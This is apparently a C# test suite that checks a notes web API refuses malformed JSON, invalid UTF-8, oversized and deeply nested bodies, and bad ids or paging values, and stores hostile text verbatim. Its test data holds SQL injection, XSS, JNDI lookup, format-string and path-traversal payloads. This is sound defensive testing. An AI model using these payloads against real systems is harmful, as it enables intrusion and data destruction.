using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Notes.Features.Notes;
using Notes.Tests.Infrastructure;

namespace Notes.Tests.Http;

/// <summary>
/// What an attacker or a broken client sends, through HTTP: never a 5xx, a 4xx with a reason for anything refused,
/// and a refused request changes nothing. Note 1 exists throughout, so requests that name it reach the handlers.
/// </summary>
public sealed class HostileInputTests(HostileInputTests.OneNote api) : IClassFixture<HostileInputTests.OneNote>
{
    public sealed class OneNote : NotesApi
    {
        public override async Task InitializeAsync()
        {
            await base.InitializeAsync();
            await SendAsync(new CreateNote.Command("the note under attack"));
        }
    }

    private static readonly string LongestText = string.Concat(Enumerable.Repeat("ж", 100));

    public static TheoryData<string, string, string, string?> RefusedBodies() => new()
    {
        // malformed and truncated JSON
        { "POST", "/notes", "{", null },
        { "POST", "/notes", "{\"text\":", null },
        { "POST", "/notes", "{\"text\":\"unterminated", null },
        { "POST", "/notes", "{\"text\":\"a\"", null },
        { "POST", "/notes", "{\"text\":\"a\",}", null },
        { "POST", "/notes", "{text:\"a\"}", null },
        { "POST", "/notes", "{'text':'a'}", null },
        { "POST", "/notes", "{\"text\":\"a\"}}", null },
        { "POST", "/notes", "{\"text\":\"a\"} trailing", null },
        { "POST", "/notes", "\"\\u12\"", null },
        { "POST", "/notes", "{\"text\":\"\\x41\"}", null },
        { "POST", "/notes", "/* comment */ {\"text\":\"a\"}", null },
        { "PUT", "/notes/1", "{\"text\":\"a\",\"completed\":tru}", null },
        { "PATCH", "/notes/1", "{\"completed\":", null },
        { "POST", "/notes/import", "[{\"text\":\"a\"},", null },
        // wrong types
        { "POST", "/notes", "{\"text\":123}", null },
        { "POST", "/notes", "{\"text\":true}", null },
        { "POST", "/notes", "{\"text\":{\"nested\":\"object\"}}", null },
        { "POST", "/notes", "{\"text\":[\"array\"]}", null },
        { "POST", "/notes", "{\"text\":\"a\",\"completed\":\"yes\"}", null },
        { "POST", "/notes", "{\"text\":\"a\",\"completed\":0}", null },
        { "POST", "/notes", "{\"text\":\"a\",\"completed\":[]}", null },
        { "POST", "/notes", "42", null },
        { "POST", "/notes", "[]", null },
        { "PUT", "/notes/1", "{\"text\":\"a\",\"completed\":\"TRUE \"}", null },
        { "PATCH", "/notes/1", "{\"text\":1e5}", null },
        { "PATCH", "/notes/1", "[{\"op\":\"replace\",\"path\":\"/text\",\"value\":\"json patch, not merge patch\"}]", null },
        { "POST", "/notes/import", "{\"text\":\"not an array\"}", null },
        { "POST", "/notes/import", "[\"a string\"]", null },
        // nulls and missing members
        { "POST", "/notes", "null", "text" },
        { "POST", "/notes", "{\"text\":null}", "text" },
        { "POST", "/notes", "{\"text\":null,\"completed\":null}", null },
        { "PUT", "/notes/1", "{\"text\":\"a\",\"completed\":null}", "completed" },
        { "PUT", "/notes/1", "{\"completed\":true}", "text" },
        { "PATCH", "/notes/1", "{\"text\":null}", "text" },
        { "PATCH", "/notes/1", "{\"completed\":null}", "completed" },
        { "PATCH", "/notes/1", "null", "body" },
        { "POST", "/notes/import", "[null]", "[0]" },
        { "POST", "/notes/import", "null", "body" },
        // boundary lengths, in characters (code points), not bytes
        { "POST", "/notes", $"{{\"text\":\"{LongestText}ж\"}}", "text" },
        { "POST", "/notes", $"{{\"text\":\"{string.Concat(Enumerable.Repeat("😀", 101))}\"}}", "text" },
        { "POST", "/notes", $"{{\"text\":\"{new string('a', 101)}\"}}", "text" },
        { "PATCH", "/notes/1", $"{{\"text\":\"{string.Concat(Enumerable.Repeat("漢", 101))}\"}}", "text" },
        { "POST", "/notes", "{\"text\":\"\"}", "text" },
        { "POST", "/notes", "{\"text\":\" \\t\\n\\r \"}", "text" },
        { "POST", "/notes", "{\"text\":\"\\u00a0\\u2003\"}", "text" },
        { "POST", "/notes", "{\"text\":\"nul\\u0000inside\"}", "text" },
        { "POST", "/notes", "{\"text\":\"\\ud83d\"}", null },
        { "POST", "/notes/import", $"[{{\"text\":\"fine\"}},{{\"text\":\"{new string('b', 101)}\"}}]", "[1].text" },
    };

    [Theory]
    [MemberData(nameof(RefusedBodies))]
    public async Task Should_refuse_a_body_with_a_4xx_that_says_why_and_change_nothing(string method, string path, string body, string? field)
    {
        var response = await api.ChangesNothingAsync(() => Send(method, path, Encoding.UTF8.GetBytes(body)));

        var status = (int)response.StatusCode;
        status.ShouldBeInRange(400, 499, await response.Content.ReadAsStringAsync());
        var problem = await response.ShouldBeProblemAsync(response.StatusCode);
        if (field is not null)
        {
            response.StatusCode.ShouldBe(HttpStatusCode.UnprocessableEntity);
            problem.Errors(field).ShouldNotBeEmpty();
        }
    }

    public static TheoryData<string, byte[]> InvalidUtf8() => new()
    {
        { "lone continuation byte", [.. "{\"text\":\""u8, 0x80, .. "\"}"u8] },
        { "truncated sequence", [.. "{\"text\":\""u8, 0xE2, 0x82, .. "\"}"u8] },
        { "overlong encoding", [.. "{\"text\":\""u8, 0xC0, 0xAF, .. "\"}"u8] },
        { "surrogate encoded in UTF-8", [.. "{\"text\":\""u8, 0xED, 0xA0, 0x80, .. "\"}"u8] },
        { "Latin-1 byte", [.. "{\"text\":\"caf"u8, 0xE9, .. "\"}"u8] },
        { "byte FF", [.. "{\"text\":\""u8, 0xFF, .. "\"}"u8] },
        { "UTF-16 body", Encoding.Unicode.GetBytes("{\"text\":\"utf-16\"}") },
        { "binary noise", [0x00, 0x01, 0x02, 0xFE, 0xFF, 0x7F, 0x1B] },
    };

    [Theory]
    [MemberData(nameof(InvalidUtf8))]
    public async Task Should_answer_400_to_a_body_that_is_not_utf8(string what, byte[] body)
    {
        var response = await api.ChangesNothingAsync(() => Send("POST", "/notes", body));

        await response.ShouldBeProblemAsync(HttpStatusCode.BadRequest);
        what.ShouldNotBeEmpty();
    }

    [Theory]
    [InlineData(64)]
    [InlineData(1000)]
    [InlineData(20_000)]
    public async Task Should_answer_400_to_deeply_nested_json(int depth)
    {
        var body = $"{{\"text\":\"deep\",\"extra\":{new string('[', depth)}{new string(']', depth)}}}";

        var response = await api.ChangesNothingAsync(() => Send("POST", "/notes", Encoding.UTF8.GetBytes(body)));

        ((int)response.StatusCode).ShouldBeInRange(400, 413);
    }

    [Fact]
    public async Task Should_answer_413_to_a_huge_body()
    {
        var response = await api.ChangesNothingAsync(() => Send("POST", "/notes", Encoding.UTF8.GetBytes($"{{\"text\":\"{new string('z', 5_000_000)}\"}}")));

        await response.ShouldBeProblemAsync(HttpStatusCode.RequestEntityTooLarge);
    }

    [Theory]
    [InlineData("/notes/0")]
    [InlineData("/notes/-1")]
    [InlineData("/notes/-2147483648")]
    [InlineData("/notes/2147483647")]
    [InlineData("/notes/2147483648")]
    [InlineData("/notes/99999999999999999999")]
    [InlineData("/notes/1.5")]
    [InlineData("/notes/1e3")]
    [InlineData("/notes/1%27%20or%201=1")]
    [InlineData("/notes/..%2F..%2Fetc%2Fpasswd")]
    public async Task Should_answer_404_to_an_id_that_names_no_note(string path)
    {
        foreach (var method in new[] { "GET", "DELETE" })
        {
            var response = await api.ChangesNothingAsync(() => Send(method, path, null));

            await response.ShouldBeProblemAsync(HttpStatusCode.NotFound);
        }
    }

    [Theory]
    [InlineData("/notes?skip=-1", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?skip=-2147483648", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?skip=2147483648", HttpStatusCode.BadRequest)]
    [InlineData("/notes?take=0", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?take=-1", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?take=1001", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?take=2147483647", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?take=9223372036854775808", HttpStatusCode.BadRequest)]
    [InlineData("/notes?take=0x10", HttpStatusCode.BadRequest)]
    [InlineData("/notes?take=%00", HttpStatusCode.BadRequest)]
    [InlineData("/notes?after=-5", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?after=99999999999999999999", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?sort=createdAt&after=%E2%98%83", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?sort=updatedAt&after=" + "QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?sort=id;drop%20table%20mt_doc_note", HttpStatusCode.UnprocessableEntity)]
    [InlineData("/notes?completed=null", HttpStatusCode.BadRequest)]
    public async Task Should_refuse_paging_values_that_are_out_of_range_or_not_numbers(string url, HttpStatusCode status)
    {
        var response = await api.ChangesNothingAsync(() => Send("GET", url, null));

        await response.ShouldBeProblemAsync(status);
    }

    [Theory]
    [InlineData("'); drop table mt_doc_note; --")]
    [InlineData("1' or '1'='1")]
    [InlineData("<script>alert('x')</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("${jndi:ldap://example.invalid/a}")]
    [InlineData("{{7*7}} %s %n %x")]
    [InlineData("\\\\server\\share ../../etc/passwd")]
    [InlineData("Robert'); DROP TABLE mt_hilo;--")]
    [InlineData("\u202eoverride text direction")]
    [InlineData("zero\u200bwidth and \ufeff BOM")]
    public async Task Should_store_sql_and_script_text_verbatim_and_search_it_safely(string text)
    {
        var created = await (await Send("POST", "/notes", Encoding.UTF8.GetBytes($$"""{"text":{{System.Text.Json.JsonSerializer.Serialize(text)}}}"""))).ShouldBeNoteAsync();

        (await (await Send("GET", $"/notes/{created.Id()}", null)).ShouldBeNoteAsync()).Text().ShouldBe(text);
        var search = await Send("GET", $"/notes?q={Uri.EscapeDataString(text[..Math.Min(text.Length, 100)])}", null);
        ((int)search.StatusCode).ShouldBe(200, await search.Content.ReadAsStringAsync());
        (await Send("DELETE", $"/notes/{created.Id()}", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    [Fact]
    public async Task Should_accept_text_of_exactly_100_multibyte_characters()
    {
        var created = await (await Send("POST", "/notes", Encoding.UTF8.GetBytes($"{{\"text\":\"{LongestText}\"}}"))).ShouldBeNoteAsync();

        created.Text().ShouldBe(LongestText);
        Encoding.UTF8.GetByteCount(LongestText).ShouldBe(200);
        (await Send("DELETE", $"/notes/{created.Id()}", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    private async Task<HttpResponseMessage> Send(string method, string path, byte[]? body)
    {
        using var client = api.CreateClient();
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        if (body is not null)
        {
            request.Content = new ByteArrayContent(body);
            request.Content.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        }

        var response = await client.SendAsync(request);
        await response.Content.LoadIntoBufferAsync();
        ((int)response.StatusCode).ShouldBeLessThan(500, $"{method} {path}: {await response.Content.ReadAsStringAsync()}");
        return response;
    }
}
